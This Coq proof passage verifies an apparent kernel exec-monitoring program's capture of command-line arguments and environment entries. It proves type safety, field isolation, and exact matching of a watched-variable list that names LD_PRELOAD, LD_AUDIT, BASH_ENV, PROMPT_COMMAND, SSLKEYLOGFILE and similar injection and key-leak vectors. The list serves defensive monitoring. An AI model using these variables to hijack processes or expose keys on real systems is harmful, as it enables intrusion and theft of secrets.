(** ** The argument slots *)
Lemma argv_slot_write argv buf i j :
  length argv = MAX_ARGV_LEN → (i < MAX_ARGS_CAPTURE)%nat → length buf = MAX_ARG_STR_LEN →
  argv_slot (write_at argv (i * MAX_ARG_STR_LEN) buf) j =
  if bool_decide (i = j) then buf else argv_slot argv j.
Proof. apply env_slot_write_at. Qed.

Lemma argv_slot_length argv i :
  length argv = MAX_ARGV_LEN → (i < MAX_ARGS_CAPTURE)%nat → length (argv_slot argv i) = MAX_ARG_STR_LEN.
Proof. apply length_env_slot. Qed.

Lemma store_argv_typed i buf e :
  (i < MAX_ARGS_CAPTURE)%nat → length buf = MAX_ARG_STR_LEN → Forall is_byte buf →
  event_typed e → event_typed (store_argv_slot i buf e).
Proof.
  unfold MAX_ARGS_CAPTURE, MAX_ARG_STR_LEN. intros Hi Hl Hb He.
  destruct (typed_arr_field e 18 256 (ee_argv e) He eq_refl) as [Hal Hab].
  apply typed_set_argv; [| |done].
  - rewrite length_write_at; [done|]. unfold MAX_ARG_STR_LEN. lia.
  - unfold write_at. auto using Forall_app_2, Forall_take, Forall_drop.
Qed.

(** The read of an argument into its slot. *)
Lemma argv_read_ok e i p :
  event_typed e → (i < MAX_ARGS_CAPTURE)%nat →
  string_read (argv_slot (ee_argv e) i) (probe_read_user_str k (AtArgvStr i) p (argv_slot (ee_argv e) i)) ∧
  length (argv_slot (ee_argv e) i) = MAX_ARG_STR_LEN.
Proof.
  intros He Hi. destruct (typed_arr_field e 18 256 (ee_argv e) He eq_refl) as [Hl Hb].
  split; [apply ko_user_str; [done|by apply Forall_slice]|by apply argv_slot_length].
Qed.

Lemma argv_loop_typed argv n i count e :
  (i + n ≤ MAX_ARGS_CAPTURE)%nat → 0 ≤ count → count + Z.of_nat n ≤ 8 → event_typed e →
  event_typed (argv_loop k argv n i count e).2 ∧ 0 ≤ (argv_loop k argv n i count e).1 ≤ 8.
Proof.
  revert i count e. induction n as [|n IH]; intros i count e Hi Hc Hc8 He; cbn [argv_loop]; [simpl; split; [done|lia]|].
  destruct (probe_read_user _ _ _) as [p|]; [|simpl; split; [typed_or|lia]].
  case_bool_decide; [simpl; split; [done|lia]|].
  destruct (argv_read_ok e i p He ltac:(lia)) as [(Hl & Hb & _) Hs].
  destruct (probe_read_user_str _ _ _ _) as [ret buf]. simpl in Hl, Hb. rewrite Hs in Hl.
  assert (event_typed (store_argv_slot i buf e)) as He1 by (apply store_argv_typed; [lia|done..]).
  case_bool_decide; [simpl; split; [typed_or|lia]|].
  cbv zeta. apply IH; [lia..|]. case_bool_decide; [|done].
  apply typed_or_status, typed_or_argv_mask; [done|by apply as_uint_range|done].
Qed.

Lemma capture_argv_typed argv e : event_typed e → event_typed (capture_argv k argv e).
Proof.
  intros He. unfold capture_argv.
  assert (event_typed (reset_argv e)) as H0.
  { unfold reset_argv.
    apply typed_set_args_count, typed_set_argv_flags, typed_set_argv_trunc_mask, typed_set_argv_len, typed_set_argv;
      [lia..|done|apply Forall_byte_zeroed|done]. }
  case_bool_decide; [typed_or|].
  destruct (argv_loop_typed argv MAX_ARGS_CAPTURE 0 0 _ ltac:(done) ltac:(done) ltac:(done) H0) as [He1 Hc].
  destruct (argv_loop _ _ _ _ _ _) as [count e1]. simpl in *.
  assert (event_typed (set_argv_len (as_uint 16 count) (set_args_count count e1))) as He2
    by (apply typed_set_argv_len, typed_set_args_count; [by apply as_uint_range|lia|done]).
  case_bool_decide; [|done]. destruct (probe_read_user _ _ _); [|done].
  case_bool_decide; [done|typed_or].
Qed.
End typed.

(** ** What the captures of strings leave alone *)

(** The status bits other than those of the argument and environment captures. *)
Definition TASK_BITS : Z := 0xEFF.
Definition head_of (e : ExecEvent) :=
  ((ee_event_type e, ee_flags e, ee_struct_size e, ee_enforcement_action e),
   (ee_pid e, ee_ppid e, ee_tgid e, ee_uid e, ee_euid e, ee_gid e),
   (ee_comm e, ee_filename e, ee_container_id e), (ee_namespace_id e, ee_timestamp_ns e),
   Z.land (ee_capture_status e) TASK_BITS).
Definition argv_of (e : ExecEvent) :=
  (ee_args_count e, ee_argv_len e, ee_argv_trunc_mask e, ee_argv_flags e, ee_argv e,
   Z.land (ee_capture_status e) CAPTURE_ARGV).
Definition strings_only (e e' : ExecEvent) : Prop := head_of e' = head_of e.
Definition env_only (e e' : ExecEvent) : Prop := head_of e' = head_of e ∧ argv_of e' = argv_of e.

#[export] Instance strings_only_trans : Transitive strings_only.
Proof. intros e1 e2 e3. unfold strings_only. congruence. Qed.
#[export] Instance env_only_trans : Transitive env_only.
Proof. intros e1 e2 e3. unfold env_only. intuition congruence. Qed.

Lemma head_or_status bit e : Z.land bit TASK_BITS = 0 → head_of (or_capture_status bit e) = head_of e.
Proof. intros H. unfold head_of. simpl. by rewrite Z.land_lor_distr_l, H, Z.lor_0_r. Qed.

Lemma head_set_args_count v e : head_of (set_args_count v e) = head_of e.
Proof. done. Qed.
Lemma head_set_argv_len v e : head_of (set_argv_len v e) = head_of e.
Proof. done. Qed.
Lemma head_set_argv_trunc_mask v e : head_of (set_argv_trunc_mask v e) = head_of e.
Proof. done. Qed.
Lemma head_set_argv_flags v e : head_of (set_argv_flags v e) = head_of e.
Proof. done. Qed.
Lemma head_set_argv v e : head_of (set_argv v e) = head_of e.
Proof. done. Qed.
#[export] Hint Rewrite head_set_args_count head_set_argv_len head_set_argv_trunc_mask head_set_argv_flags
  head_set_argv : head.
Lemma only_set_env_len v e : env_only e (set_env_len v e).
Proof. done. Qed.
Lemma only_set_env_trunc_mask v e : env_only e (set_env_trunc_mask v e).
Proof. done. Qed.
Lemma only_set_env_flags v e : env_only e (set_env_flags v e).
Proof. done. Qed.
Lemma only_set_env_ptr_count v e : env_only e (set_env_ptr_count v e).
Proof. done. Qed.
Lemma only_set_env_header_pad v e : env_only e (set_env_header_pad v e).
Proof. done. Qed.
Lemma only_set_env v e : env_only e (set_env v e).
Proof. done. Qed.
Lemma env_or_status e : env_only e (or_capture_status CAPTURE_ENV e).
Proof.
  split; [by apply head_or_status|]. unfold argv_of. simpl. by rewrite Z.land_lor_distr_l, Z.lor_0_r.
Qed.
#[export] Hint Resolve only_set_env_len only_set_env_trunc_mask only_set_env_flags only_set_env_ptr_count
  only_set_env_header_pad only_set_env env_or_status : neuro.

(** Follows a chain of such assignments. *)
Ltac env_chain :=
  repeat (first [solve [eauto 1 with neuro] | etrans; [|solve [eauto 1 with neuro]]]).

Lemma reset_argv_head e : head_of (reset_argv e) = head_of e.
Proof. unfold reset_argv. by autorewrite with head. Qed.
Lemma reset_env_only e : env_only e (reset_env e).
Proof. unfold reset_env. env_chain. Qed.

Lemma argv_fault_head bit e :
  Z.land bit TASK_BITS = 0 →
  head_of (or_argv_flags ARGV_FLAG_PROBE_FAULT (or_capture_status bit e)) = head_of e.
Proof. intros. unfold or_argv_flags. rewrite head_set_argv_flags. by apply head_or_status. Qed.

Lemma argv_loop_head k argv n i count e : strings_only e (argv_loop k argv n i count e).2.
Proof.
  unfold strings_only. revert i count e. induction n as [|n IH]; intros i count e; cbn [argv_loop]; [done|].
  destruct (probe_read_user _ _ _) as [p|]; [|by apply argv_fault_head].
  case_bool_decide; [done|]. destruct (probe_read_user_str _ _ _ _) as [ret buf].
  case_bool_decide; [simpl snd; rewrite argv_fault_head by done; apply head_set_argv|].
  cbv zeta. rewrite IH. case_bool_decide; [|apply head_set_argv].
  rewrite head_or_status by done. unfold or_argv_trunc_mask, store_argv_slot. by autorewrite with head.
Qed.

Lemma capture_argv_head k argv e : strings_only e (capture_argv k argv e).
Proof.
  unfold capture_argv, strings_only. case_bool_decide.
  { rewrite argv_fault_head by done. apply reset_argv_head. }
  pose proof (argv_loop_head k argv MAX_ARGS_CAPTURE 0 0 (reset_argv e)) as Hh.
  destruct (argv_loop _ _ _ _ _ _) as [count e1]. unfold strings_only in Hh. simpl in Hh.
  assert (head_of (set_argv_len (as_uint 16 count) (set_args_count count e1)) = head_of e) as He.
  { autorewrite with head. rewrite Hh. apply reset_argv_head. }
  case_bool_decide; [|exact He]. destruct (probe_read_user _ _ _); [|exact He].
  case_bool_decide; [exact He|]. unfold or_argv_flags. rewrite head_set_argv_flags.
  by rewrite head_or_status.
Qed.

Lemma env_fault_only bit e : env_only e (or_env_flags bit (or_capture_status CAPTURE_ENV e)).
Proof. unfold or_env_flags. env_chain. Qed.
Lemma env_flag_only bit e : env_only e (or_capture_status CAPTURE_ENV (or_env_flags bit e)).
Proof. unfold or_env_flags. env_chain. Qed.
#[export] Hint Resolve env_fault_only env_flag_only : neuro.

Lemma env_store32_only i src ret bit e : env_only e (env_store32 i src ret bit e).
Proof. unfold env_store32, or_env_trunc_mask. case_bool_decide; env_chain. Qed.
#[export] Hint Resolve env_store32_only : neuro.

Lemma env_match_store_only probe ret c0 e : env_only e (env_match_store probe ret c0 e).
Proof.
  unfold env_match_store.
  repeat (match goal with |- env_only _ (if ?b then _ else _) => destruct b end);
    first [done|solve [eauto 1 with neuro]].
Qed.

Lemma env_loop_only k envp n i scanned probe e : env_only e (env_loop k envp n i scanned probe e).2.
Proof.
  revert i scanned probe e. induction n as [|n IH]; intros i scanned probe e; cbn [env_loop]; [done|].
  destruct (probe_read_user _ _ _) as [p|]; [|apply env_fault_only].
  case_bool_decide; [done|]. destruct (probe_read_user_str _ _ _ _) as [ret buf].
  case_bool_decide; cbv zeta; (etrans; [|apply IH]); [apply env_fault_only|].
  destruct (env_c0_candidate _); [apply env_match_store_only|done].
Qed.

Lemma capture_envp_only k envp e : env_only e (capture_envp k envp e).
Proof.
  unfold capture_envp. pose proof (reset_env_only e) as H0. case_bool_decide.
  { etrans; [exact H0|apply env_fault_only]. }
  pose proof (env_loop_only k envp MAX_ENV_SCAN 0 0 (probe_stack k) (reset_env e)) as H1.
  destruct (env_loop _ _ _ _ _ _ _) as [scanned e1]. simpl in H1.
  assert (env_only e (set_env_len (as_uint 16 (Z.of_nat (env_hits e1)))
    (set_env_ptr_count (as_uint 16 scanned) e1))) as H2.
  { etrans; [exact H0|]. etrans; [exact H1|].
    etrans; [apply only_set_env_ptr_count|apply only_set_env_len]. }
  case_bool_decide; [|exact H2]. etrans; [exact H2|apply env_flag_only].
Qed.

(** ** The environment names, by words and by text

    The program compares eight and four bytes at a time. By text: the index in the
    allowlist of the name that, with its [=], begins the entry. *)
Definition env_class (text : bytes) : option nat :=
  fst <$> list_find (λ n, (n ++ [61]) `prefix_of` text) ENV_VALUE_ALLOWLIST.

(** What a scanned entry of class [c] does to the record. *)
Definition store_class (c : option nat) (probe : bytes) (ret : Z) (e : ExecEvent) : ExecEvent :=
  match c with
  | None => e
  | Some 8%nat =>
      if env_slot_used e 7 then or_capture_status CAPTURE_ENV (or_env_flags ENV_FLAG_SLOTS_FULL e)
      else env_store32 7 probe ret 128 e
  | Some i => env_store32 i probe ret (Z.shiftl 1 (Z.of_nat i)) e
  end.

(** The scan's stack buffer. *)
Definition env_buffer (s : bytes) : Prop := length s = MAX_ENV_STR_LEN ∧ Forall is_byte s.

Lemma load_u64 s v : env_buffer s → env_load_u64 s = v → take 8 s = le_encode 8 v.
Proof.
  unfold env_load_u64, env_buffer, MAX_ENV_STR_LEN. intros [Hl Hb] <-.
  rewrite <- (le_encode_decode (take 8 s)) at 1 by (by apply Forall_take).
  by rewrite length_take_le by lia.
Qed.
Lemma load_u32 s n v :
  env_buffer s → (n ≤ 28)%nat → env_load_u32 (drop n s) = v → take 4 (drop n s) = le_encode 4 v.
Proof.
  unfold env_load_u32, env_buffer, MAX_ENV_STR_LEN. intros [Hl Hb] Hn <-.
  rewrite <- (le_encode_decode (take 4 (drop n s))) at 1 by (by apply Forall_take, Forall_drop).
  by rewrite length_take_le by (rewrite length_drop; lia).
Qed.

Lemma prefix_snoc (p s : bytes) i c :
  p `prefix_of` s → i = length p → char_at s i c = true → (p ++ [c]) `prefix_of` s.
Proof.
  intros [r ->] -> Hc. apply bool_decide_eq_true in Hc. rewrite lookup_app_r, Nat.sub_diag in Hc by lia.
  destruct r as [|x r]; [done|]. injection Hc as ->. exists r. by rewrite <- app_assoc.
Qed.
Lemma prefix_u64 s v : env_buffer s → bool_decide (env_load_u64 s = v) = true → le_encode 8 v `prefix_of` s.
Proof.
  intros Hs H%bool_decide_eq_true%load_u64; [|done]. exists (drop 8 s). by rewrite <- H, take_drop.
Qed.
Lemma prefix_u32 p s n v :
  env_buffer s → p `prefix_of` s → n = length p → (n ≤ 28)%nat →
  bool_decide (env_load_u32 (drop n s) = v) = true → (p ++ le_encode 4 v) `prefix_of` s.
Proof.
  intros Hs [r Hr] -> Hn H%bool_decide_eq_true%load_u32; [|done..].
  rewrite Hr, drop_app_length in H. exists (drop 4 r). by rewrite Hr, <- app_assoc, <- H, take_drop.
Qed.

(** Each comparison of a test lengthens the known prefix [P]. *)
Ltac grow P H :=
  first [apply (prefix_snoc _ _ _ _ P eq_refl) in H
        |eapply (prefix_u32 _ _ 8 _ ltac:(eassumption) P eq_refl) in H; [|lia]];
  clear P; rename H into P.

Lemma ld_preload_prefix s : env_buffer s → env_is_ld_preload s = true → lit "LD_PRELOAD=" `prefix_of` s.
Proof.
  intros Hs (((P & H0)%andb_true_iff & H1)%andb_true_iff & H2)%andb_true_iff. apply (prefix_u64 _ _ Hs) in P.
  grow P H0. grow P H1. grow P H2. exact P.
Qed.
Lemma ld_audit_prefix s : env_buffer s → env_is_ld_audit s = true → lit "LD_AUDIT=" `prefix_of` s.
Proof.
  intros Hs (P & H0)%andb_true_iff. apply (prefix_u64 _ _ Hs) in P.
  grow P H0. exact P.
Qed.
Lemma ld_library_path_prefix s : env_buffer s → env_is_ld_library_path s = true → lit "LD_LIBRARY_PATH=" `prefix_of` s.
Proof.
  intros Hs (((((P & H0)%andb_true_iff & H1)%andb_true_iff & H2)%andb_true_iff & H3)%andb_true_iff & H4)%andb_true_iff. apply (prefix_u64 _ _ Hs) in P.
  grow P H0. grow P H1. grow P H2. grow P H3. grow P H4. exact P.
Qed.
Lemma path_prefix s : env_buffer s → env_is_path s = true → lit "PATH=" `prefix_of` s.
Proof.
  intros Hs (P & H)%andb_true_iff.
  apply (prefix_u32 [] s 0 _ Hs (prefix_nil s) eq_refl ltac:(lia)) in P. grow P H. exact P.
Qed.
Lemma node_options_prefix s : env_buffer s → env_is_node_options s = true → lit "NODE_OPTIONS=" `prefix_of` s.
Proof.
  intros Hs ((P & H0)%andb_true_iff & H1)%andb_true_iff. apply (prefix_u64 _ _ Hs) in P.
  grow P H0. grow P H1. exact P.
Qed.
Lemma pythonpath_prefix s : env_buffer s → env_is_pythonpath s = true → lit "PYTHONPATH=" `prefix_of` s.
Proof.
  intros Hs (((P & H0)%andb_true_iff & H1)%andb_true_iff & H2)%andb_true_iff. apply (prefix_u64 _ _ Hs) in P.
  grow P H0. grow P H1. grow P H2. exact P.
Qed.
Lemma bash_env_prefix s : env_buffer s → env_is_bash_env s = true → lit "BASH_ENV=" `prefix_of` s.
Proof.
  intros Hs (P & H0)%andb_true_iff. apply (prefix_u64 _ _ Hs) in P.
  grow P H0. exact P.
Qed.
Lemma prompt_command_prefix s : env_buffer s → env_is_prompt_command s = true → lit "PROMPT_COMMAND=" `prefix_of` s.
Proof.
  intros Hs ((((P & H0)%andb_true_iff & H1)%andb_true_iff & H2)%andb_true_iff & H3)%andb_true_iff. apply (prefix_u64 _ _ Hs) in P.
  grow P H0. grow P H1. grow P H2. grow P H3. exact P.
Qed.
Lemma sslkeylogfile_prefix s : env_buffer s → env_is_sslkeylogfile s = true → lit "SSLKEYLOGFILE=" `prefix_of` s.
Proof.
  intros Hs (((P & H0)%andb_true_iff & H1)%andb_true_iff & H2)%andb_true_iff. apply (prefix_u64 _ _ Hs) in P.
  grow P H0. grow P H1. grow P H2. exact P.
Qed.

(** A name with its [=] at the head of the buffer heads its text, and is its class. *)
Lemma text_prefix p s : 0 ∉ p → p `prefix_of` s → p `prefix_of` EnvCapture.slot_text s.
Proof.
  intros H0 [r ->]. unfold EnvCapture.slot_text. rewrite position_or_len_app by done.
  rewrite take_app. rewrite take_ge by lia. by eexists.
Qed.
Lemma text_prefix_inv p s : p `prefix_of` EnvCapture.slot_text s → p `prefix_of` s.
Proof. intros H. etrans; [exact H|]. apply prefix_take. Qed.

Lemma env_class_Some text i n :
  ENV_VALUE_ALLOWLIST !! i = Some n → (n ++ [61]) `prefix_of` text → env_class text = Some i.
Proof.
  intros Hi [r ->]. rewrite <- app_assoc. unfold ENV_VALUE_ALLOWLIST in Hi.
  do 9 (destruct i as [|i]; [injection Hi as <-; vm_compute; reflexivity|]). done.
Qed.

Lemma env_class_None text i n :
  env_class text = None → ENV_VALUE_ALLOWLIST !! i = Some n → ¬ (n ++ [61]) `prefix_of` text.
Proof. intros E Hi Hp. by rewrite (env_class_Some _ _ _ Hi Hp) in E. Qed.

(** The word comparisons find the entries the allowlist names, and no other. *)
Lemma env_match_class probe ret e :
  env_buffer probe →
  (if env_c0_candidate (nth 0 probe 0) then env_match_store probe ret (nth 0 probe 0) e else e)
  = store_class (env_class (EnvCapture.slot_text probe)) probe ret e.
Proof.
  intros Hs. destruct (env_class _) as [i|] eqn:E.
  - unfold env_class in E. apply fmap_Some in E as ([j n] & (Hi & Hp & _)%list_find_Some & ->).
    apply text_prefix_inv in Hp as [r ->]. unfold ENV_VALUE_ALLOWLIST in Hi. clear Hs.
    do 9 (destruct j as [|j]; [injection Hi as <-; lazy -[env_store32 env_slot_used or_capture_status
      or_env_flags CAPTURE_ENV ENV_FLAG_SLOTS_FULL]; reflexivity|]). done.
  - assert (∀ (test : bytes → bool) (j : nat) (n : bytes),
      (test probe = true → (n ++ [61]) `prefix_of` probe) →
      ENV_VALUE_ALLOWLIST !! j = Some n → 0 ∉ n → test probe = false) as Hno.
    { intros test j n Ht Hj H0. destruct (test probe) eqn:Et; [|done]. exfalso.
      apply (env_class_None _ _ _ E Hj), text_prefix; [set_solver|by apply Ht]. }
    unfold env_match_store.
    rewrite (Hno env_is_ld_preload 0%nat (lit "LD_PRELOAD") (ld_preload_prefix _ Hs) eq_refl),
      (Hno env_is_ld_audit 1%nat (lit "LD_AUDIT") (ld_audit_prefix _ Hs) eq_refl),
      (Hno env_is_ld_library_path 2%nat (lit "LD_LIBRARY_PATH") (ld_library_path_prefix _ Hs) eq_refl),
      (Hno env_is_path 3%nat (lit "PATH") (path_prefix _ Hs) eq_refl),
      (Hno env_is_node_options 4%nat (lit "NODE_OPTIONS") (node_options_prefix _ Hs) eq_refl),
      (Hno env_is_pythonpath 5%nat (lit "PYTHONPATH") (pythonpath_prefix _ Hs) eq_refl),
      (Hno env_is_bash_env 6%nat (lit "BASH_ENV") (bash_env_prefix _ Hs) eq_refl),
      (Hno env_is_prompt_command 7%nat (lit "PROMPT_COMMAND") (prompt_command_prefix _ Hs) eq_refl),
      (Hno env_is_sslkeylogfile 8%nat (lit "SSLKEYLOGFILE") (sslkeylogfile_prefix _ Hs) eq_refl)
      by (apply (bool_decide_eq_false_1 (_ ∈ _)); vm_compute; reflexivity).
    rewrite !andb_false_r. by repeat case_match.
Qed.

(** ** The environment slots

    The slots by their text, and what one scanned entry does to them. *)
Definition slot_texts (e : ExecEvent) : list bytes :=
  map (λ i, EnvCapture.slot_text (env_slot (ee_env e) i)) (seq 0 MAX_ENV_CAPTURE).

Definition env_put (slots : list bytes) (text : bytes) : list bytes :=
  match env_class text with
  | None => slots
  | Some 8%nat => if is_empty (nth 7 slots []) then <[7%nat := text]> slots else slots
  | Some i => <[i := text]> slots
  end.

(** The texts a scan reads, in order. *)
Fixpoint env_texts (k : KernelEnv) (envp : Z) (n i : nat) (probe : bytes) : list bytes :=
  match n with
  | O => []
  | S n =>
      match probe_read_user k (AtEnvPtr i) (nth_ptr envp i) with
      | None => []
      | Some p =>
          if bool_decide (p = 0) then []
          else
            let '(ret, probe) := probe_read_user_str k (AtEnvStr i) p probe in
            (if bool_decide (ret ≤ 0) then [] else [EnvCapture.slot_text probe])
              ++ env_texts k envp n (S i) probe
      end
  end.

Lemma env_store32_slots i src ret bit e :
  event_typed e → env_buffer src → (i < MAX_ENV_CAPTURE)%nat → uint 8 bit →
  event_typed (env_store32 i src ret bit e) ∧
  ∀ j, env_slot (ee_env (env_store32 i src ret bit e)) j =
       if bool_decide (i = j) then src else env_slot (ee_env e) j.
Proof.
  intros He [Hl Hb] Hi Hbit. destruct (typed_arr_field e 24 256 (ee_env e) He eq_refl) as [Hel Heb].
  unfold env_store32. rewrite (take_ge src) by lia.
  assert (event_typed (set_env (write_at (ee_env e) (i * MAX_ENV_STR_LEN) src) e)) as He1.
  { apply typed_set_env; [| |done].
    - rewrite length_write_at; [done|]. rewrite Hl, Hel. unfold MAX_ENV_CAPTURE, MAX_ENV_STR_LEN in *. lia.
    - unfold write_at. auto using Forall_app_2, Forall_take, Forall_drop. }
  split.
  - case_bool_decide; [|done]. apply typed_or_status, typed_or_env_mask; done.
  - intros j. rewrite <- env_slot_write_at by done. by case_bool_decide.
Qed.

Lemma lookup_slot_texts e i :
  (i < MAX_ENV_CAPTURE)%nat → slot_texts e !! i = Some (EnvCapture.slot_text (env_slot (ee_env e) i)).
Proof. intros. unfold slot_texts. rewrite list_lookup_fmap, lookup_seq_lt by done. done. Qed.

Lemma env_store32_texts i src ret bit e :
  event_typed e → env_buffer src → (i < MAX_ENV_CAPTURE)%nat → uint 8 bit →
  slot_texts (env_store32 i src ret bit e) = <[i := EnvCapture.slot_text src]> (slot_texts e).
Proof.
  intros He Hs Hi Hb. destruct (env_store32_slots i src ret bit e He Hs Hi Hb) as [_ H].
  apply list_eq. intros j. destruct (decide (j < MAX_ENV_CAPTURE)%nat) as [Hj|Hj].
  - rewrite lookup_slot_texts, H by done. destruct (decide (i = j)) as [->|Hij].
    + rewrite bool_decide_eq_true_2 by done. rewrite list_lookup_insert_eq; [done|].
      unfold slot_texts. by rewrite length_map, length_seq.
    + rewrite bool_decide_eq_false_2, list_lookup_insert_ne, lookup_slot_texts by done. done.
  - rewrite !lookup_ge_None_2; [done|..]; rewrite ?length_insert; unfold slot_texts;
      rewrite length_map, length_seq; lia.
Qed.

Lemma env_slot_used_text e i :
  event_typed e → (i < MAX_ENV_CAPTURE)%nat →
  env_slot_used e i = negb (is_empty (EnvCapture.slot_text (env_slot (ee_env e) i))).
Proof.
  intros He Hi. destruct (typed_arr_field e 24 256 (ee_env e) He eq_refl) as [Hel _].
  pose proof (length_env_slot _ _ Hel Hi) as Hl. unfold env_slot_used, char_at, EnvCapture.slot_text.
  destruct (env_slot (ee_env e) i) as [|c s]; [done|]. f_equal. simpl.
  destruct (decide (c = 0)) as [->|Hc].
  - by rewrite !bool_decide_eq_true_2.
  - rewrite !bool_decide_eq_false_2; [done|congruence|congruence].
Qed.

Lemma store_class_texts probe ret e :
  event_typed e → env_buffer probe →
  event_typed (store_class (env_class (EnvCapture.slot_text probe)) probe ret e) ∧
  slot_texts (store_class (env_class (EnvCapture.slot_text probe)) probe ret e)
  = env_put (slot_texts e) (EnvCapture.slot_text probe).
Proof.
  intros He Hs. unfold env_put. destruct (env_class _) as [i|] eqn:E; [|done].
  assert (∀ i bit, (i < MAX_ENV_CAPTURE)%nat → uint 8 bit →
    event_typed (env_store32 i probe ret bit e) ∧
    slot_texts (env_store32 i probe ret bit e) = <[i := EnvCapture.slot_text probe]> (slot_texts e)) as Hst.
  { intros j bit Hj Hbit. split; [by apply env_store32_slots|by apply env_store32_texts]. }
  assert (i < 9)%nat as Hi.
  { unfold env_class in E. apply fmap_Some in E as ([j n] & (Hj & _)%list_find_Some & ->).
    by apply lookup_lt_Some in Hj. }
  do 8 (destruct i as [|i]; [apply Hst; [unfold MAX_ENV_CAPTURE; lia|done]|]). destruct i as [|i]; [|lia].
  cbn [store_class]. rewrite env_slot_used_text by (done || (unfold MAX_ENV_CAPTURE; lia)).
  assert (nth 7 (slot_texts e) [] = EnvCapture.slot_text (env_slot (ee_env e) 7)) as -> by done.
  destruct (is_empty _); simpl; [apply Hst; [unfold MAX_ENV_CAPTURE; lia|done]|].
  split; [|done]. by apply typed_or_status, typed_or_env_flags.
Qed.

(** Assignments of the environment's counters leave the slots as they are. *)
Lemma slot_texts_env e e' : ee_env e' = ee_env e → slot_texts e' = slot_texts e.
Proof. unfold slot_texts. by intros ->. Qed.

Section env_typed.
Context (k : KernelEnv) (Hk : kernel_ok k).

Lemma env_loop_texts envp n i scanned probe e :
  event_typed e → env_buffer probe → 0 ≤ scanned →
  let '(scanned', e') := env_loop k envp n i scanned probe e in
  event_typed e' ∧ slot_texts e' = foldl env_put (slot_texts e) (env_texts k envp n i probe) ∧
  scanned ≤ scanned' ≤ scanned + Z.of_nat n.
Proof.
  revert i scanned probe e. induction n as [|n IH]; intros i scanned probe e He Hp H0; cbn [env_loop env_texts].
  { split_and!; [done|done|lia..]. }
  destruct (probe_read_user _ _ _) as [p|]; [|split_and!; [by typed_or|done|lia..]].
  case_bool_decide; [split_and!; [done|done|lia..]|].
  destruct (ko_user_str k Hk (AtEnvStr i) p probe (proj2 Hp)) as (Hl & Hb & _).
  destruct (probe_read_user_str _ _ _ _) as [ret buf]. simpl in Hl, Hb.
  assert (env_buffer buf) as Hbuf by (split; [rewrite Hl; apply Hp|done]).
  case_bool_decide; cbv zeta; cbn [app foldl].
  - specialize (IH (S i) (scanned + 1) buf (or_env_flags ENV_FLAG_PROBE_FAULT (or_capture_status CAPTURE_ENV e))).
    destruct (env_loop _ _ _ _ _ _ _) as [sc e1].
    destruct IH as (I1 & I2 & I3); [by typed_or|done|lia|]. split_and!; [done|exact I2|lia..].
  - rewrite env_match_class by done. destruct (store_class_texts buf ret e He Hbuf) as [He1 Ht1].
    set (e1 := store_class _ _ _ _) in *. specialize (IH (S i) (scanned + 1) buf e1 He1 Hbuf ltac:(lia)).
    destruct (env_loop _ _ _ _ _ _ _) as [sc e2]. destruct IH as (I1 & I2 & I3).
    split_and!; [done|by rewrite I2, Ht1|lia..].
Qed.

Lemma reset_env_typed e : event_typed e → event_typed (reset_env e).
Proof.
  intros He. unfold reset_env.
  apply typed_set_env_header_pad, typed_set_env_ptr_count, typed_set_env_flags, typed_set_env_trunc_mask,
    typed_set_env_len, typed_set_env; [lia..|done|apply Forall_byte_zeroed|done].
Qed.

Lemma env_hits_texts e :
  event_typed e → env_hits e = length (filter (λ t, t ≠ []) (slot_texts e)).
Proof.
  intros He. unfold env_hits, slot_texts.
  assert (Forall (λ i, (i < MAX_ENV_CAPTURE)%nat) (seq 0 MAX_ENV_CAPTURE)) as Hl
    by (apply Forall_forall; intros i [_ Hi]%elem_of_seq; exact Hi).
  induction Hl as [|i l Hi _ IH]; [done|]. cbn [map]. rewrite !filter_cons.
  pose proof (env_slot_used_text e i He Hi) as Hu.
  destruct (EnvCapture.slot_text _); simpl in Hu.
  - rewrite decide_False, decide_False by (naive_solver congruence). done.
  - rewrite decide_True, decide_True by (done || naive_solver). cbn [length]. by rewrite IH.
Qed.
End env_typed.

(** The texts an invocation reads from [envp]. *)
Definition env_read (k : KernelEnv) (envp : Z) : list bytes :=
  if bool_decide (envp = 0) then [] else env_texts k envp MAX_ENV_SCAN 0 (probe_stack k).
Definition no_slots : list bytes := replicate MAX_ENV_CAPTURE [].

Lemma slot_texts_reset e : slot_texts (reset_env e) = no_slots.
Proof.
  assert (ee_env (reset_env e) = zeroed MAX_ENV_LEN) as H by done.
  unfold slot_texts. rewrite H. vm_compute. done.
Qed.

Section record.
Context (k : KernelEnv) (Hk : kernel_ok k).

(** The counters after the scan. *)
Definition env_counted (scanned : Z) (e : ExecEvent) : ExecEvent :=
  set_env_len (as_uint 16 (Z.of_nat (env_hits e))) (set_env_ptr_count (as_uint 16 scanned) e).

Lemma env_counted_texts scanned e :
  event_typed e →
  event_typed (env_counted scanned e) ∧ slot_texts (env_counted scanned e) = slot_texts e ∧
  ee_env_len (env_counted scanned e) = Z.of_nat (length (filter (λ t, t ≠ []) (slot_texts e))).
Proof.
  intros He. unfold env_counted. split; [|split].
  - apply typed_set_env_len, typed_set_env_ptr_count; [by apply as_uint_range..|done].
  - by apply slot_texts_env.
  - rewrite (env_hits_texts e He). apply as_uint_small.
    assert (length (filter (λ t, t ≠ []) (slot_texts e)) ≤ 8)%nat; [|lia].
    etrans; [apply length_filter|]. unfold slot_texts. by rewrite length_map, length_seq.
Qed.

(** The slots after the capture, and their count. *)
Lemma capture_envp_texts envp e :
  event_typed e →
  let e' := capture_envp k envp e in
  event_typed e' ∧ slot_texts e' = foldl env_put no_slots (env_read k envp) ∧
  ee_env_len e' = Z.of_nat (length (filter (λ t, t ≠ []) (slot_texts e'))).
Proof.
  intros He. apply reset_env_typed in He as H0. pose proof (slot_texts_reset e) as Hr.
  assert (ee_env_len (reset_env e) = 0) as Hl by done.
  unfold capture_envp, env_read. cbv zeta. generalize dependent (reset_env e). clear e He.
  intros e0 H0 Hr Hl. case_bool_decide.
  { split; [by typed_or|]. rewrite (slot_texts_env e0), Hr by done. done. }
  pose proof (env_loop_texts k Hk envp MAX_ENV_SCAN 0 0 _ _ H0 (ko_stack k Hk) ltac:(lia)) as H1.
  destruct (env_loop _ _ _ _ _ _ _) as [scanned e1]. destruct H1 as (He1 & Ht & Hsc).
  rewrite Hr in Ht. fold (env_counted scanned e1).
  destruct (env_counted_texts scanned e1 He1) as (He2 & Ht2 & Hn). rewrite <- Ht2 in Hn, Ht.
  generalize dependent (env_counted scanned e1). intros e2 He2 Ht2 Ht Hn.
  case_bool_decide; [|done]. split; [by typed_or|]. by rewrite (slot_texts_env e2) by done.
Qed.

(** What the captures of the task's fields leave alone: the kind of the record, its
    process, and the status bits of the other captures. *)
Definition TASK_FAULTS : Z :=
